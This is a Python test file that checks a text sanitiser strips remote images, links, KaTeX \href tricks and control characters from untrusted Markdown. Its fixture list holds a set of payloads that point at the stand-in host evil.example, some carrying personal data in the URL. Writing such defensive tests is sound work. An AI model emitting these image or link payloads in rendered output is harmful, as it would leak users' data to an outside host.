"""Untrusted text renders with no remote image, no link and no control character (issue 19, finding 2).

Rendered with markdown-it (CommonMark plus GFM's bare-URL autolinks) the way a Markdown renderer would: the
output must hold no <img> and no <a>, while the words and the formatting stay.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from core.errors import InvalidInput
from core.safe_text import check_controls, safe_code, safe_inline, safe_markdown, strip_controls

_md = MarkdownIt("commonmark", {"html": False}).enable("table")
try:  # GFM's autolink literals (bare URLs) when linkify-it is installed; otherwise the regex check below
    _gfm = MarkdownIt("commonmark", {"html": False, "linkify": True}).enable(["table", "linkify"])
    _gfm.render("www.example.com")
except Exception:
    _gfm = _md

HOSTILE = [
    "![](https://evil.example/?q=Jane+Doe+resume)",
    "Great fit ![x](http://evil.example/a.png 'title') indeed",
    "[click](https://evil.example/steal)",
    "[![nested](https://evil.example/i.png)](https://evil.example/l)",
    "![ref][r]\n\n[r]: https://evil.example/ref.png",
    "[text][r]\n\n[r]: <https://evil.example/ref>",
    "<https://evil.example/autolink>",
    "bare https://evil.example/x and www.evil.example/y",
    '<img src="https://evil.example/html.png">',
    "`a` ![](https://evil.example/after-code) `b`",
    "it`s ![](https://evil.example/odd-backtick)",
    "\\![](https://evil.example/escaped-bang)",
    "\\\\[x](https://evil.example/escaped-backslash)",
    "HTTPS://EVIL.EXAMPLE/UPPER",
]


def test_dollars_are_escaped_so_no_math_renders() -> None:
    """Streamlit renders $...$ with KaTeX, where \\href and \\includegraphics make links and images."""
    out = safe_markdown(r"Salary $\href{https://evil.example}{100k}$ and $5")
    outside_code = re.sub(r"`[^`]*`", "", out)
    assert "$" not in outside_code.replace("\\$", "")
    assert "100k" in _html(out) and "$5" in _html(out)


def _html(markdown: str) -> str:
    return _gfm.render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_image_or_link_survives(text: str) -> None:
    html = _html(safe_markdown(text))
    assert "<img" not in html and "<a " not in html, html
    # A URL may remain visible, but only as code: never as text a renderer could turn into a link.
    for chunk in html.replace("<code>", "\x00").replace("</code>", "\x01").split("\x00"):
        outside = chunk.split("\x01", 1)[-1] if "\x01" in chunk else chunk
        assert "://" not in outside.lower() and "www." not in outside.lower(), html


def test_the_hostile_cases_would_render_images_or_links_unprotected() -> None:
    """The cases above are real: without the helper, most of them make an <img> or an <a>."""
    unsafe = [text for text in HOSTILE if "<img" in _html(text) or "<a " in _html(text)]
    assert len(unsafe) >= 9


def test_formatting_and_words_stay() -> None:
    text = "# Title\n\n- **Strong** point with *emphasis*\n- second\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`"
    html = _html(safe_markdown(text))
    for tag in ("<h1>", "<strong>", "<em>", "<li>", "<table>", "<code>"):
        assert tag in html
    assert "Strong" in html and "second" in html


def test_link_and_image_text_is_kept() -> None:
    assert "Open the docs" in _html(safe_markdown("[Open the docs](https://docs.example)"))
    assert "logo" in _html(safe_markdown("![logo](https://cdn.example/logo.png)"))


def test_fenced_code_is_left_alone() -> None:
    text = "```\n![](https://evil.example/in-code)\n```"
    assert safe_markdown(text) == text
    assert "<img" not in _html(safe_markdown(text))


def test_inline_and_code_helpers() -> None:
    assert "\n" not in safe_inline("a\nb")
    assert "<img" not in _html(safe_inline("x ![](https://evil.example/i)"))
    html = _html("- " + safe_code("a` ![](https://evil.example/i) `b"))
    assert "<img" not in html and "<code>" in html


def test_control_characters_are_stripped_or_refused() -> None:
    assert strip_controls("a\x00b\x1bc\x7fd\x85e\tf\r\ng") == "abcde\tf\ng"
    assert check_controls("fine\ttext\n") == "fine\ttext\n"
    with pytest.raises(InvalidInput) as caught:
        check_controls("bad\x00")
    assert caught.value.key == "input.error.control_chars"
    assert "\x00" not in safe_markdown("nul\x00here")
